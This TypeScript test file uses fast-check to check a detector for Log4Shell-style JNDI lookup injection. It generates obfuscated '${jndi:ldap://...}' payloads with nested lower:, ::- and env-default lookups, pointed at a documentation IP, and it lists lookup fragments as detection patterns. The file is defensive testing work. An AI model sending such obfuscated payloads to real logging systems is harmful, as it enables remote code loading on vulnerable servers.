/** Lookups of logging libraries: pairs, and every way to spell one word. */
import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { confidenceOf, testClass } from "./class-vectors.ts";

await testClass("jndi", ["${", "${${", "}", "${:-", "${a:-${b:-", "${lower:", "$", "${::-a}", "${jndi:"]);

/** A lookup that gives `letter`. */
const spelled = (letter: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom("lower:", "upper:", "::-", "env:NOT_SET:-", "sys:a.b:-", ":::::-", "date:'", "a:${b:-c}:-"),
      fc.nat({ max: 2 }),
    )
    .map(([lookup, deep]) => {
      let text = "${" + lookup + letter + (lookup.endsWith("'") ? "'" : "") + "}";
      for (let i = 0; i < deep; i++) text = "${x" + String(i) + ":-" + text + "}";
      return text;
    });
const letters = fc.tuple(...[..."jndi"].map((letter) => fc.oneof(fc.constant(letter), spelled(letter))));

test("jndi: is found however its letters are spelled", () => {
  fc.assert(
    fc.property(letters, fc.constantFrom("ldap", "rmi", "dns", "iiop"), (word, scheme) => {
      const text = `\${${word.join("")}:${scheme}://198.51.100.7/a}`;
      assert.ok(confidenceOf("jndi", text) >= 60, text);
    }),
    { numRuns: 500 },
  );
});

test("another word in its place is no lookup of it", () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[a-z]{2,8}$/), fc.stringMatching(/^[a-zA-Z0-9 ./-]{0,20}$/), (word, rest) => {
      fc.pre(!["jndi", "java"].includes(word));
      assert.ok(confidenceOf("jndi", `\${${word}:${rest}}`) < 60, word);
    }),
    { numRuns: 500 },
  );
});
